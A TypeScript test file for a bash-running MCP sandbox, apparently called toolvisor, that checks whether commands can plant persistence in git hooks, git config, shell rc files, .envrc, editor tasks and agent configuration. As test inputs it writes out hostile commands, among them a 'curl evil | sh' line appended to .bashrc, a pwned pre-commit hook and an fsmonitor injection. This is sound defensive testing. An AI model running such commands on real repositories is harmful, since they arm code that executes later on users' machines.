/**
 * Issue 26 point 7 (decision 0096): a writable workspace arms code that runs later, outside. A
 * `workspace-write` command may write the project, not what the user's own programs run by
 * themselves: git's hooks and configuration, shell start-up files, `.envrc`, an editor's tasks,
 * an agent client's configuration. Written the way an attacker would try, in a real git repository
 * owned by the user the commands run as: toolvisor as root (commands as the sandbox user, who
 * owns the repository here) and as an ordinary user (the user's own repository).
 */
import { spawn, spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js'
import { afterEach, describe, expect, it } from 'vitest'
import { asUserSkip, ordinaryUser, seenAs, userCommand, userDir } from './as-user.js'
import { bashMcpArgs, bin, eventually } from './helpers.js'
import { states } from './keep-helpers.js'
import { dir, hasBwrap, isRoot, mechanisms } from './sandbox-helpers.js'
import { call, connect, serve } from './serve-helpers.js'

const cleanups: Array<() => Promise<void> | void> = []
afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!()
})

const DENIED = '[sandbox: file access denied under workspace-write mode]'

/** A git repository with a hook sample, a config and a shell rc file, owned by `uid:gid`. */
function repository(root: string, uid: number, gid: number): string {
  const ws = join(root, 'ws')
  mkdirSync(ws)
  spawnSync('git', ['init', '-q', ws])
  writeFileSync(join(ws, '.bashrc'), "# the user's own\n")
  writeFileSync(join(ws, 'README'), 'hello\n')
  spawnSync('chown', ['-R', `${uid}:${gid}`, root])
  chmodSync(root, 0o755)
  return ws
}

async function bash(command: { command: string; args: string[]; cwd: string; env: Record<string, string> }) {
  const client = new Client({ name: 'protected-test', version: '0' })
  await client.connect(new StdioClientTransport({ ...command, stderr: 'pipe' }))
  cleanups.push(() => client.close())
  return async (script: string) => {
    const result = (await client.callTool(
      { name: 'bash', arguments: { command: script, description: 'probe' } },
      undefined,
      { timeout: 60_000 },
    )) as CallToolResult
    return result.content.map((c) => (c.type === 'text' ? c.text : '')).join('\n')
  }
}

/** The attacker's moves, and what the project itself still allows. */
async function attack(run: (script: string) => Promise<string>, ws: string): Promise<void> {
  expect(
    await run('echo "id > /tmp/pwned" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit'),
  ).toContain(DENIED)
  expect(existsSync(join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false)
  expect(await run('git config core.fsmonitor "id > /tmp/pwned"')).toContain('[exit code:')
  expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).not.toContain('fsmonitor')
  expect(await run('echo "curl evil | sh" >> .bashrc')).toContain(DENIED)
  expect(readFileSync(join(ws, '.bashrc'), 'utf8')).toBe("# the user's own\n")
  expect(await run('echo "export PATH=/tmp/evil:$PATH" > .envrc')).toContain(DENIED)
  expect(await run('mkdir -p .vscode && echo "{}" > .vscode/tasks.json')).toContain(DENIED)
  expect(await run('echo "{\\"mcpServers\\":{}}" > .mcp.json')).toContain(DENIED)
  // The placeholders that kept them from being made are gone once the command ended.
  for (const name of ['.envrc', '.vscode', '.mcp.json', '.claude', '.zshrc']) {
    expect(existsSync(join(ws, name)), name).toBe(false)
  }
  // The project stays the command's to change: files, and commits (objects, refs, the index).
  expect(
    await run(
      'echo changed > README && git add README && git -c user.email=a@b -c user.name=n commit -q -m x && git log --oneline | wc -l',
    ),
  ).toBe('1\n')
}

/** `toolvisor mcp --bash --sandbox MECHANISM --bash-sandbox workspace-write --state-dir STATE`. */
const served = (binary: string, mechanism: string, state: string) => [
  binary,
  'mcp',
  '--bash',
  '--sandbox',
  mechanism,
  '--bash-sandbox',
  'workspace-write',
  '--state-dir',
  state,
]

describe.skipIf(!hasBwrap)('protected paths in a writable workspace', () => {
  for (const mechanism of mechanisms) {
    it.skipIf(!isRoot)(
      `${mechanism}, as root: the sandbox user writes its repository, never its hooks, config, rc files`,
      async () => {
        const ws = repository(dir('tv-protect-'), 65534, 65534)
        const run = await bash({
          command: process.execPath,
          args: served(bin, mechanism, dir('tv-protect-state-', 0o700)),
          cwd: ws,
          env: process.env as Record<string, string>,
        })
        await attack(run, ws)
      },
    )

    it.skipIf(asUserSkip !== undefined)(
      `${mechanism}, as an ordinary user: its own repository, the same`,
      async () => {
        const user = ordinaryUser()
        const root = userDir('tv-protect-', user)
        cleanups.push(() => rmSync(root, { recursive: true, force: true }))
        const ws = repository(root, user.uid, user.gid)
        const state = join(root, 'state')
        const ids = ['--reuid', String(user.uid), '--regid', String(user.gid), '--init-groups']
        spawnSync('setpriv', [...ids, 'mkdir', '-m', '700', state])
        const run = await bash(
          userCommand(process.execPath, served(seenAs(bin), mechanism, state), { cwd: ws }),
        )
        await attack(run, ws)
      },
    )
  }
})

describe.skipIf(!hasBwrap || !isRoot)('protected paths the operator adds', () => {
  it('--protect keeps one more path read-only (missing: masked; there: bound read-only)', async () => {
    const root = dir('tv-protect-op-')
    const ws = repository(root, 65534, 65534)
    const run = await bash({
      command: process.execPath,
      args: bashMcpArgs(
        'bwrap',
        'workspace-write',
        '--protect',
        'Makefile',
        '--protect',
        'README',
        '--state-dir',
        dir('tv-protect-state-', 0o700),
      ),
      cwd: ws,
      env: process.env as Record<string, string>,
    })
    expect(await run('echo "all:; id > /tmp/pwned" > Makefile')).toContain(DENIED)
    expect(await run('echo changed > README')).toContain(DENIED)
    expect(readFileSync(join(ws, 'README'), 'utf8')).toBe('hello\n')
    expect(existsSync(join(ws, 'Makefile'))).toBe(false)
    expect(await run('echo fine > other && cat other')).toBe('fine\n')
  })
})

describe.skipIf(!hasBwrap || !isRoot)('a protected path no mount can keep', () => {
  for (const mechanism of mechanisms) {
    it(`${mechanism}: a symbolic link at .envrc stops the command before it runs, saying why`, async () => {
      const ws = repository(dir('tv-protect-link-'), 65534, 65534)
      symlinkSync('/tmp/tv-somewhere-else', join(ws, '.envrc'))
      const run = await bash({
        command: process.execPath,
        args: served(bin, mechanism, dir('tv-protect-state-', 0o700)),
        cwd: ws,
        env: process.env as Record<string, string>,
      })
      const text = await run('echo ran > ran')
      expect(text).toContain(
        `the protected path .envrc of $.runtime.sandbox.fs.write[0] is a symbolic link (${join(ws, '.envrc')})`,
      )
      expect(existsSync(join(ws, 'ran'))).toBe(false)
    })
  }
})

describe.skipIf(!hasBwrap || !isRoot)('placeholders when toolvisor is killed -9 mid-command', () => {
  for (const mechanism of mechanisms) {
    it(`${mechanism}: the watchdog removes them once it killed the command`, async () => {
      const ws = repository(dir('tv-protect-kill-'), 65534, 65534)
      const child = spawn(process.execPath, served(bin, mechanism, dir('tv-protect-state-', 0o700)), {
        cwd: ws,
        stdio: ['pipe', 'pipe', 'pipe'],
      })
      const exited = new Promise((resolve) => child.once('exit', resolve))
      cleanups.push(async () => {
        if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL')
        await exited
      })
      const send = (message: object) => child.stdin!.write(`${JSON.stringify(message)}\n`)
      send({
        jsonrpc: '2.0',
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'k', version: '0' } },
      })
      send({ jsonrpc: '2.0', method: 'notifications/initialized' })
      send({
        jsonrpc: '2.0',
        id: 2,
        method: 'tools/call',
        params: { name: 'bash', arguments: { command: 'sleep 30303', description: 'wait' } },
      })
      expect(
        await eventually(() => existsSync(join(ws, '.envrc')) && existsSync(join(ws, '.vscode')), 20_000),
      ).toBe(true)
      child.kill('SIGKILL')
      await exited
      const left = () =>
        ['.envrc', '.vscode', '.mcp.json', '.zshrc'].filter((name) => existsSync(join(ws, name)))
      expect(await eventually(() => left().length === 0, 10_000), `left: ${left().join(', ')}`).toBe(true)
      expect(await eventually(() => !spawnSync('pgrep', ['-f', 'sleep 30303']).stdout.length, 5000)).toBe(
        true,
      )
    })
  }
})

describe.skipIf(!hasBwrap || !isRoot)('placeholders of a kept command (serve --keep-processes)', () => {
  for (const mechanism of mechanisms) {
    it(`${mechanism}: kill -9 of serve, the next serve re-adopts the command; they stay while it runs and go at its end`, async () => {
      const ws = repository(dir('tv-protect-keep-'), 65534, 65534)
      const state = dir('tv-protect-keep-state-', 0o700)
      states.push(state)
      const flags = [
        '--keep-processes',
        '--bash',
        '--sandbox',
        mechanism,
        '--bash-sandbox',
        'workspace-write',
      ]
      const left = () =>
        ['.envrc', '.vscode', '.mcp.json', '.zshrc'].filter((name) => existsSync(join(ws, name)))
      const first = await serve(flags, '127.0.0.1:0', {}, { state, cwd: ws })
      const alice = (await connect(first.url, first.token, undefined, 'alice')).client
      const command = { command: 'sleep 30304', description: 'wait', run_in_background: true }
      expect(await call(alice, 'bash', command)).toBe('started background task bash-1')
      expect(await eventually(() => left().length === 4, 10_000)).toBe(true)
      first.child.kill('SIGKILL')
      await first.exited
      const second = await serve(flags, '127.0.0.1:0', {}, { state, cwd: ws })
      expect(second.stderr()).toMatch(/re-adopted kept bash-1/)
      // Still running, still masked: the placeholders stay.
      const back = (await connect(second.url, second.token, undefined, 'alice')).client
      expect(left()).toHaveLength(4)
      expect(await call(back, 'bash_kill', { task_id: 'bash-1' })).toBe('killed background task bash-1')
      expect(await eventually(() => left().length === 0, 5000), `left: ${left().join(', ')}`).toBe(true)
      second.child.kill('SIGTERM')
      expect(await second.exited).toBe(0)
    })
  }
})
